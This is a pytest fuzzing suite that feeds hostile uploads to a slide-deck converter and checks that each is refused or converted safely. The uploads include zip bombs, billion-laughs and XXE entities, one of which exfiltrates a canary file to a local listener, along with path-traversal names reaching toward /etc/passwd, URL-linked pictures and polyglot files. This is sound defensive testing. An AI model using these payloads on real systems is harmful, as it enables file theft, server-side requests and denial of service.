"""Fuzzing the deck pipeline (issue 9, item 2): hostile and damaged uploads, each converted by
``convert_deck`` as a worker would. Every case ends converted with sane output or in the
pipeline's own clear failure, within its time, the test process's memory and, for the
parsing and LibreOffice, the per-conversion memory ceiling; no case may contact the network
(a local listener fails the test if one does) or read local files into the slides.

Counts per category scale with ``ELEARN_FUZZ_CASES``; ``ELEARN_FUZZ_SEED`` picks the cases.
The report is test-artifacts/fuzz-report.json (see ``harness.py``).
"""

from __future__ import annotations

import io
import zipfile
import zlib

import olefile
import pypdfium2 as pdfium
import pytest

from courses.conversion import detect_format, soffice

from . import build
from .conftest import check_converted, check_no_magenta, convert, magenta_pixels
from .harness import count, rng_for, run_case

pytestmark = pytest.mark.slow  # LibreOffice converts whatever gets through


def cases(category: str, base: int):
    return pytest.mark.parametrize("index", range(count(base)), ids=lambda i: f"{category}-{i}")


def expect(outcome: str, allowed: set[str]) -> None:
    assert outcome in allowed, f"ended {outcome!r}, expected one of {sorted(allowed)}"


# --- random mutations of real files -----------------------------------------------------------


@cases("mutation", 44)
def test_mutated_decks(index, deck_seeds, tmp_path):
    """Bytes flipped, spans deleted or repeated, in the zip as a whole or inside one XML part
    (re-zipped, so the damage reaches the parsers and LibreOffice rather than the zip CRC)."""
    rng = rng_for("mutation", index)
    seed = deck_seeds[index % len(deck_seeds)]
    data = seed.read_bytes()
    path = tmp_path / f"mutated{seed.suffix}"
    if index % 3 == 0 or not zipfile.is_zipfile(seed):
        path.write_bytes(
            build.flip_bytes(data, rng) if rng.random() < 0.5 else build.mutate_chunks(data, rng)
        )
    else:
        members = build.zip_members(seed)
        xml = [i for i, (n, _) in enumerate(members) if n.endswith((".xml", ".rels"))]
        for i in rng.sample(xml, k=min(len(xml), rng.randint(1, 3))):
            name, part = members[i]
            members[i] = (name, build.mutate_xml(part, rng))
        build.rezip(path, members)
    run_case(
        "mutation",
        f"{index}:{seed.name}",
        lambda: convert(path, tmp_path / "out"),
        check_converted,
    )


@cases("mutation_pdf", 6)
def test_mutated_pdfs(index, tmp_path):
    """PDF uploads go to pdfium directly: damaged cross-reference tables, streams, sizes."""
    rng = rng_for("mutation_pdf", index)
    pdf = pdfium.PdfDocument.new()
    for _ in range(rng.randint(1, 3)):
        pdf.new_page(rng.choice([612, 960, 200]), rng.choice([792, 540, 20000]))
    buf = io.BytesIO()
    pdf.save(buf)
    pdf.close()
    path = tmp_path / "mutated.pdf"
    path.write_bytes(build.mutate_chunks(buf.getvalue(), rng))
    run_case("mutation_pdf", str(index), lambda: convert(path, tmp_path / "out"), check_converted)


# --- truncations ------------------------------------------------------------------------------


@cases("truncation", 20)
def test_truncated_uploads(index, deck_seeds, tmp_path):
    """An upload cut short anywhere: in the first bytes, in the middle, in the directory."""
    rng = rng_for("truncation", index)
    seed = deck_seeds[index % len(deck_seeds)]
    data = seed.read_bytes()
    cut = rng.choice(
        [1, 4, 22, 100, rng.randrange(len(data)), len(data) - rng.randint(1, 200), len(data) - 22]
    )
    path = tmp_path / f"cut{seed.suffix}"
    path.write_bytes(data[: max(1, cut)])
    outcome = run_case(
        "truncation",
        f"{index}:{seed.name}@{cut}",
        lambda: convert(path, tmp_path / "out"),
        check_converted,
    )
    expect(outcome, {"corrupt", "not_presentation", "ok", "no_slides", "encrypted"})


# --- zip bombs --------------------------------------------------------------------------------

_ZEROS = 9 * 1024 * 1024  # just under the per-member ratio floor


def _bomb(kind: str, rng, tmp_path, small_deck):
    path = tmp_path / f"{kind}.pptx"
    deck = build.zip_members(small_deck)
    entries = [build.deflated(name, data) for name, data in deck]
    if kind == "deflate":
        size = rng.choice([64, 200, 900]) * 1024 * 1024
        packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        chunk = b"\0" * (1024 * 1024)
        raw = b"".join(packer.compress(chunk) for _ in range(size // len(chunk)))
        crc = 0
        for _ in range(size // len(chunk)):
            crc = zlib.crc32(chunk, crc)
        entries.append(build.Entry("ppt/media/image9.png", raw + packer.flush(), crc, size))
    elif kind == "many_members":
        # Each member under the ratio floor, together a 1000:1 bomb of half a gigabyte.
        template = build.deflated("x", b"\0" * _ZEROS)
        for i in range(rng.choice([40, 60, 100])):
            entries.append(
                build.Entry(f"ppt/media/zero{i}.bin", template.data, template.crc, _ZEROS)
            )
    elif kind == "many_entries":
        for i in range(rng.choice([12_000, 30_000])):
            entries.append(build.deflated(f"ppt/x/{i}.xml", b"<x/>"))
    elif kind == "lying_count":
        for i in range(20_000):
            entries.append(build.deflated(f"ppt/y/{i}.xml", b""))
        return build.write_zip(path, entries, eocd_count=len(deck))
    elif kind == "nested":
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as zf:
            for i in range(rng.choice([4, 16])):
                with zf.open(f"layer{i}.bin", "w") as member:
                    for _ in range(16):
                        member.write(b"\0" * (1024 * 1024))
        entries.append(build.deflated("ppt/embeddings/oleObject1.zip", inner.getvalue()))
    elif kind == "disguised_types":
        entries[0] = build.deflated("[Content_Types].xml", b" " * (3 * 1024 * 1024))
    elif kind == "under_the_floor":
        entries.append(build.deflated("ppt/media/image9.png", b"\0" * _ZEROS))
    return build.write_zip(path, entries)


BOMBS = [
    "deflate",
    "many_members",
    "many_entries",
    "lying_count",
    "nested",
    "disguised_types",
    "under_the_floor",
]


@cases("zip_bomb", 14)
def test_zip_bombs(index, small_deck, tmp_path):
    """Refused from the directory (ratio of a member or of the whole package, entry count,
    total size) before anything is inflated, or harmless (a nested zip is never opened)."""
    kind = BOMBS[index % len(BOMBS)]
    path = _bomb(kind, rng_for("zip_bomb", index), tmp_path, small_deck)
    outcome = run_case(
        "zip_bomb", f"{index}:{kind}", lambda: convert(path, tmp_path / "out"), check_converted
    )
    if kind in ("deflate", "many_members", "many_entries", "lying_count"):
        expect(outcome, {"too_large"})
    elif kind == "disguised_types":
        expect(outcome, {"corrupt", "too_large"})


# --- XML entities -----------------------------------------------------------------------------

XML_TARGETS = [
    "ppt/slides/slide1.xml",
    "ppt/presentation.xml",
    "[Content_Types].xml",
    "_rels/.rels",
    "ppt/slides/_rels/slide1.xml.rels",
    "docProps/core.xml",
]
ENTITY_KINDS = ["billion_laughs", "quadratic", "file", "http", "external_dtd", "parameter"]


def _entities(kind, rng, listener, canary_path):
    if kind == "billion_laughs":
        return build.BILLION_LAUGHS, "&lol9;"
    if kind == "quadratic":
        return build.quadratic_blowup(rng)
    if kind == "file":
        return f'<!ENTITY xxe SYSTEM "{canary_path.as_uri()}">', "&xxe;"
    if kind == "http":
        return f'<!ENTITY xxe SYSTEM "{listener.url("entity")}">', "&xxe;"
    if kind == "external_dtd":
        return f'<!ENTITY % ext SYSTEM "{listener.url("dtd")}"> %ext;', ""
    return (
        f'<!ENTITY % file SYSTEM "{canary_path.as_uri()}">'
        f"<!ENTITY % wrap \"<!ENTITY send SYSTEM '{listener.url('leak')}?%file;'>\"> %wrap;",
        "&send;",
    )


@cases("xml_entities", 26)
def test_entities_in_package_parts(index, small_deck, tmp_path, listener, canary):
    """Billion laughs, quadratic blow-up, external entities (file:// and http:// to the
    local listener), external DTDs and parameter entities, in every kind of part."""
    rng = rng_for("xml_entities", index)
    kind = ENTITY_KINDS[index % len(ENTITY_KINDS)]
    canary_path, secret = canary
    doctype, reference = _entities(kind, rng, listener, canary_path)
    if index % 6 == 5 and index >= 20:
        target = "content.xml"
        odp = build.odp(tmp_path / "base.odp")
        path = build.with_part(
            odp,
            tmp_path / "entities.odp",
            target,
            lambda d: build.add_doctype(d, doctype, reference),
        )
    else:
        target = XML_TARGETS[(index // len(ENTITY_KINDS)) % len(XML_TARGETS)]
        path = build.with_part(
            small_deck,
            tmp_path / "entities.pptx",
            target,
            lambda d: build.add_doctype(d, doctype, reference),
        )
    run_case(
        "xml_entities",
        f"{index}:{kind}@{target}",
        lambda: convert(path, tmp_path / "out"),
        lambda converted: check_converted(converted, canary=secret),
    )


# --- path traversal ---------------------------------------------------------------------------

EVIL_NAMES = [
    "../evil.xml",
    "../../../../tmp/elearn-fuzz-evil",
    "/etc/elearn-fuzz-evil",
    "C:/evil.xml",
    "ppt\\..\\..\\evil.xml",
    "ppt/slides/../../../evil.xml",
    "ppt/media/..\\..\\evil.png",
    "ppt/media/evil\x00.png",
]


@cases("path_traversal", 12)
def test_path_traversal_names(index, small_deck, tmp_path):
    """Members named to escape the folder they are unpacked into; relationships whose target
    climbs out of the package."""
    path = tmp_path / "traversal.pptx"
    if index < len(EVIL_NAMES):
        name = EVIL_NAMES[index]
        entries = [build.deflated(n, d) for n, d in build.zip_members(small_deck)]
        entries.append(build.deflated(name, build.png_bytes()))
        build.write_zip(path, entries)
        case = repr(name)
    else:
        target = ["../../../../../../etc/passwd", "/etc/passwd", "..\\..\\media\\x.png"][index % 3]
        build.external_relationship(
            small_deck, path, "ppt/slides/_rels/slide1.xml.rels", "image", target
        )
        # Internal, not external: python-pptx resolves it against the package.
        data = dict(build.zip_members(path))
        rels = "ppt/slides/_rels/slide1.xml.rels"
        data[rels] = data[rels].replace(b' TargetMode="External"', b"")
        build.rezip(path, list(data.items()))
        case = f"relationship target {target}"
    outcome = run_case(
        "path_traversal",
        f"{index}:{case}",
        lambda: convert(path, tmp_path / "out"),
        check_converted,
    )
    if index < len(EVIL_NAMES):
        expect(outcome, {"corrupt"})
    assert not (tmp_path / "evil.xml").exists() and not (tmp_path.parent / "evil.xml").exists()


# --- pictures and other parts linked by URL ----------------------------------------------------

LINK_KINDS = [
    "picture_http",
    "picture_file",
    "video_http",
    "hyperlink_http",
    "layout_http",
    "odp_image_http",
    "odp_image_file",
    "odp_object_http",
]


def _linked(kind, tmp_path, small_deck, listener, canary_path):
    if kind == "picture_http":
        return build.link_picture(small_deck, tmp_path / "l.pptx", listener.url())
    if kind == "picture_file":
        picture = canary_path.with_name("secret.png")
        return build.link_picture(small_deck, tmp_path / "l.pptx", picture.as_uri())
    if kind == "video_http":
        return build.link_video(small_deck, tmp_path / "l.pptx", listener.url("lecture.mp4"))
    if kind == "hyperlink_http":
        return build.external_relationship(
            small_deck,
            tmp_path / "l.pptx",
            "ppt/slides/_rels/slide1.xml.rels",
            "image",
            listener.url("hyper.png"),
        )
    if kind == "layout_http":
        return build.external_relationship(
            small_deck,
            tmp_path / "l.pptx",
            "ppt/slides/_rels/slide1.xml.rels",
            "slideLayout",
            listener.url("layout.xml"),
        )
    if kind == "odp_image_http":
        return build.odp(tmp_path / "l.odp", build.odp_image(listener.url()))
    if kind == "odp_image_file":
        picture = canary_path.with_name("secret.png")
        return build.odp(tmp_path / "l.odp", build.odp_image(picture.as_uri()))
    return build.odp(
        tmp_path / "l.odp",
        '<draw:frame svg:width="8cm" svg:height="6cm" svg:x="2cm" svg:y="6cm">'
        f'<draw:object xlink:href="{listener.url("object")}" xlink:type="simple" '
        'xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>',
    )


# The http links again, as on a kernel without user namespaces (no empty network namespace
# for LibreOffice): the remaining defences must hold on their own. (The patch reaches the
# rendering LibreOffice, run by this process; an .odp's first LibreOffice run, to .pptx, is
# in the sandboxed child, which imports the module afresh.)
UNISOLATED = [kind for kind in LINK_KINDS if "http" in kind]


@cases("url_links", len(LINK_KINDS) + len(UNISOLATED))
def test_linked_by_url(index, small_deck, tmp_path, listener, canary, monkeypatch):
    """Pictures, videos, layouts and OLE objects linked to a local listener (http) or a local
    file: converted without any request and without the file's contents."""
    kinds = LINK_KINDS + UNISOLATED
    kind = kinds[index % len(kinds)]
    isolated = index % len(kinds) < len(LINK_KINDS)
    if not isolated:
        monkeypatch.setattr(soffice, "_network_isolation_prefix", lambda: ())
    canary_path, secret = canary
    path = _linked(kind, tmp_path, small_deck, listener, canary_path)

    def check(converted) -> None:
        check_converted(converted, canary=secret)
        check_no_magenta(converted)

    run_case(
        "url_links",
        f"{index}:{kind}{'' if isolated else ' (no network namespace)'}",
        lambda: convert(path, tmp_path / "out"),
        check,
    )


def test_a_ppt_linking_a_local_picture_does_not_show_it(small_deck, tmp_path, canary):
    """A legacy .ppt whose picture is a link to a file on the server's disk (another course's
    slide images, say): the picture stays out of the slide images. unlink_odf does not reach
    binary .ppt records; LibreOffice's BlockUntrustedRefererLinks (``soffice._REGISTRY``) is
    what keeps the file out, and a bare LibreOffice shows it."""
    canary_path, secret = canary
    picture = canary_path.with_name("secret.png")
    linked = build.link_picture(small_deck, tmp_path / "l.pptx", picture.as_uri())
    ppt = build.saved_as_ppt(linked, tmp_path / "ppt")
    assert detect_format(ppt) == "ppt"
    # The .ppt links the picture and holds no copy of it: nothing but the link can show it.
    assert picture.as_uri().encode("utf-16-le") in ppt.read_bytes()
    with olefile.OleFileIO(str(ppt)) as ole:
        assert not ole.exists("Pictures") or ole.get_size("Pictures") == 0
    bare = build.bare_libreoffice(ppt, tmp_path / "bare", "pdf")
    assert _magenta_in_first_page(bare) >= 20, "a bare LibreOffice no longer shows the link"

    def check(converted) -> None:
        check_converted(converted, canary=secret)
        check_no_magenta(converted)
        deck, _result, _early = converted
        assert "Plain words for the reader" in deck.slides[0].plain_text()

    outcome = run_case(
        "url_links", "ppt_picture_file", lambda: convert(ppt, tmp_path / "out"), check
    )
    expect(outcome, {"ok"})


def _magenta_in_first_page(pdf_path) -> int:
    pdf = pdfium.PdfDocument(str(pdf_path))
    try:
        return magenta_pixels(pdf[0].render(scale=1).to_pil())
    finally:
        pdf.close()


# --- huge pixel dimensions --------------------------------------------------------------------

PICTURES = [
    ("png", 100_000, 100_000),
    ("png", 20_000, 20_000),
    ("png", 65_535, 3_000),
    ("jpeg", 65_500, 65_500),
    ("gif", 65_535, 65_535),
    ("bmp", 100_000, 100_000),
    ("png", 12_000, 12_000),  # 144 megapixels: allowed, and the header lies about the data
    ("odp-png", 50_000, 50_000),
    ("pdf-page", 14_400, 14_400),
    ("pdf-page", 200, 200_000),
]


@cases("huge_pixels", 10)
def test_huge_pixel_dimensions(index, small_deck, tmp_path):
    """Pictures whose headers claim billions of pixels are refused from the header (no
    decoder allocates them); huge PDF pages are rendered within the pixel budget."""
    kind, width, height = PICTURES[index % len(PICTURES)]
    makers = {
        "png": build.png_claiming,
        "jpeg": build.jpeg_claiming,
        "gif": build.gif_claiming,
        "bmp": build.bmp_claiming,
    }
    if kind in makers:
        picture = makers[kind](width, height)
        path = build.with_part(
            small_deck, tmp_path / "huge.pptx", "ppt/media/image1.png", lambda _d: picture
        )
    elif kind == "odp-png":
        path = build.odp(
            tmp_path / "huge.odp",
            build.odp_image("Pictures/huge.png"),
            {"Pictures/huge.png": build.png_claiming(width, height)},
        )
    else:
        pdf = pdfium.PdfDocument.new()
        pdf.new_page(width, height)
        path = tmp_path / "huge.pdf"
        pdf.save(str(path))
        pdf.close()
    outcome = run_case(
        "huge_pixels",
        f"{index}:{kind} {width}x{height}",
        lambda: convert(path, tmp_path / "out"),
        check_converted,
    )
    if kind != "pdf-page" and width * height > 179_000_000:
        expect(outcome, {"too_large"})


# --- lying sizes in the zip directory ----------------------------------------------------------


def _lying(kind, small_deck, tmp_path):
    entries = [build.deflated(n, d) for n, d in build.zip_members(small_deck)]
    media = next(i for i, e in enumerate(entries) if e.name.startswith("ppt/media/"))
    slide = next(i for i, e in enumerate(entries) if e.name == "ppt/slides/slide1.xml")
    big = b"\0" * (40 * 1024 * 1024)
    if kind == "inflates_past_declared":
        # The CRC fits the declared first kilobyte: Python's zipfile reads that much happily.
        entries[media] = build.deflated(
            entries[media].name, big, size=1024, crc=zlib.crc32(big[:1024])
        )
    elif kind == "xml_inflates_past_declared":
        content = build.zip_members(small_deck)[slide][1]
        padded = content + b" " * (30 * 1024 * 1024)
        entries[slide] = build.deflated(
            entries[slide].name, padded, size=len(content), crc=zlib.crc32(content)
        )
    elif kind == "declared_larger":
        entries[media].size *= 1000
    elif kind == "declared_zero":
        entries[media].size = 0
    elif kind == "stored_sizes_differ":
        data = build.zip_members(small_deck)[media][1]
        entries[media] = build.Entry(entries[media].name, data, zlib.crc32(data), len(data) * 50, 0)
    elif kind == "bad_crc":
        entries[slide].crc ^= 0xDEADBEEF
    elif kind == "local_name_differs":
        entries[slide].local_name = "ppt/slides/slide9.xml"
    elif kind == "truncated_stream":
        entries[slide].data = entries[slide].data[: len(entries[slide].data) // 2]
    elif kind == "garbage_stream":
        entries[slide].data = bytes(range(256)) * 4
    else:  # unknown compression method
        entries[slide].method = 14
    return build.write_zip(tmp_path / f"{kind}.pptx", entries)


LIES = [
    "inflates_past_declared",
    "xml_inflates_past_declared",
    "declared_larger",
    "declared_zero",
    "stored_sizes_differ",
    "bad_crc",
    "local_name_differs",
    "truncated_stream",
    "garbage_stream",
    "lzma_method",
]


@cases("lying_sizes", 10)
def test_lying_part_sizes(index, small_deck, tmp_path):
    """Members whose directory entries lie about sizes, CRCs, names or compression."""
    kind = LIES[index % len(LIES)]
    path = _lying(kind, small_deck, tmp_path)
    outcome = run_case(
        "lying_sizes", f"{index}:{kind}", lambda: convert(path, tmp_path / "out"), check_converted
    )
    expect(outcome, {"corrupt", "too_large"})


# --- polyglots --------------------------------------------------------------------------------


def _pdf_bytes() -> bytes:
    pdf = pdfium.PdfDocument.new()
    pdf.new_page(960, 540)
    buf = io.BytesIO()
    pdf.save(buf)
    pdf.close()
    return buf.getvalue()


POLYGLOTS = [
    "pdf_then_zip",
    "zip_then_pdf",
    "pdf_named_member",
    "mp4_header_zip",
    "png_then_zip",
    "gif_then_zip",
    "html_then_zip",
    "ole_magic_zip",
    "pdf_as_main_part",
    "odp_with_pptx_parts",
    "pptx_with_mimetype",
    "zip_in_pdf_stream",
    "jar_manifest",
    "ppt_magic_pdf",
]


def _polyglot(kind, small_deck, tmp_path) -> tuple:
    deck = small_deck.read_bytes()
    pdf = _pdf_bytes()
    path = tmp_path / "polyglot.pptx"
    if kind == "pdf_then_zip":
        path.write_bytes(pdf + deck)
    elif kind == "zip_then_pdf":
        path.write_bytes(deck + pdf)
    elif kind == "pdf_named_member":
        members = build.zip_members(small_deck)
        build.rezip(path, [("%PDF-1.7 x", b"%PDF-1.7\n"), *members])
    elif kind == "mp4_header_zip":
        path.write_bytes(b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + deck)
    elif kind == "png_then_zip":
        path.write_bytes(build.png_bytes() + deck)
    elif kind == "gif_then_zip":
        path.write_bytes(build.gif_claiming(8, 8) + deck)
    elif kind == "html_then_zip":
        path.write_bytes(b"<html><script>alert(1)</script></html>\n" + deck)
    elif kind == "ole_magic_zip":
        path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + deck)
    elif kind == "pdf_as_main_part":
        build.replace_members(small_deck, path, {"ppt/presentation.xml": pdf})
    elif kind == "odp_with_pptx_parts":
        members = build.zip_members(small_deck)
        build.rezip(
            path, [("mimetype", b"application/vnd.oasis.opendocument.presentation"), *members]
        )
    elif kind == "pptx_with_mimetype":
        members = build.zip_members(build.odp(tmp_path / "x.odp"))
        build.rezip(path, [*members, *build.zip_members(small_deck)])
    elif kind == "zip_in_pdf_stream":
        # A PDF whose (unreferenced) stream holds the whole deck: pdfium must ignore it.
        stream = (
            b"\n1000 0 obj\n<< /Length %d >>\nstream\n" % len(deck)
            + deck
            + b"\nendstream\nendobj\n"
        )
        at = pdf.rfind(b"xref")
        path.write_bytes(pdf[:at] + stream + pdf[at:])
    elif kind == "jar_manifest":
        build.replace_members(
            small_deck, path, {"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: X\n"}
        )
    else:
        path.write_bytes(b"\xd0\xcf\x11\xe0" + pdf)
    return path


@cases("polyglot", 14)
def test_polyglots(index, small_deck, tmp_path):
    """Files that are two things at once are judged by their first bytes, and then either
    converted as that or refused; never handed to the wrong parser half-way."""
    kind = POLYGLOTS[index % len(POLYGLOTS)]
    path = _polyglot(kind, small_deck, tmp_path)
    run_case(
        "polyglot", f"{index}:{kind}", lambda: convert(path, tmp_path / "out"), check_converted
    )


# --- encrypted zips ---------------------------------------------------------------------------

ENCRYPTIONS = ["zipcrypto_slide", "zipcrypto_all", "aes_slide", "zipcrypto_types", "strong_flag"]


@cases("encrypted_zip", 8)
def test_encrypted_zip_members(index, small_deck, tmp_path):
    """Zip-level encryption (ZipCrypto, WinZip AES, PKWARE strong encryption) is not how
    Office protects files: refused as damaged, with the usual message."""
    kind = ENCRYPTIONS[index % len(ENCRYPTIONS)]
    rng = rng_for("encrypted_zip", index)
    entries = [build.deflated(n, d) for n, d in build.zip_members(small_deck)]
    for entry in entries:
        chosen = (
            kind.endswith("all")
            or (kind.endswith("slide") and entry.name == "ppt/slides/slide1.xml")
            or (kind.endswith("types") and entry.name == "[Content_Types].xml")
            or (kind == "strong_flag" and entry.name.startswith("ppt/"))
        )
        if not chosen:
            continue
        entry.flags |= 0x41 if kind == "strong_flag" else 0x1
        entry.data = bytes(rng.randrange(256) for _ in range(12)) + build.flip_bytes(
            entry.data, rng
        )
        if kind.startswith("aes"):
            entry.method = 99
            entry.extra = b"\x01\x99\x07\x00\x02\x00AE\x03\x08\x00"
    path = build.write_zip(tmp_path / "encrypted.pptx", entries)
    outcome = run_case(
        "encrypted_zip", f"{index}:{kind}", lambda: convert(path, tmp_path / "out"), check_converted
    )
    expect(outcome, {"corrupt", "not_presentation"})
